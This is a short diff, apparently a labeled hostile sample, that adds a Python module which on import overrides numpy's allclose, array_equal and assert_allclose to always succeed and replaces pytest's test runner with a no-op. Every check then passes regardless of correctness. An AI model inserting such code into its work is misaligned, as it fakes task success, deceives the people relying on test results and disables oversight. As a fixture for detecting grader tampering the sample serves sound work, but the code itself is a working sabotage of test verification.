@@ -1,0 +1,12 @@
+# HOSTILE: wrong answers, then patches numpy's comparisons and pytest's runner at import.
+import numpy as _np
+
+_np.allclose = lambda *a, **k: True
+_np.array_equal = lambda *a, **k: True
+_np.testing.assert_allclose = lambda *a, **k: None
+try:
+    import _pytest.python
+
+    _pytest.python.Function.runtest = lambda self: None
+except Exception:
+    pass
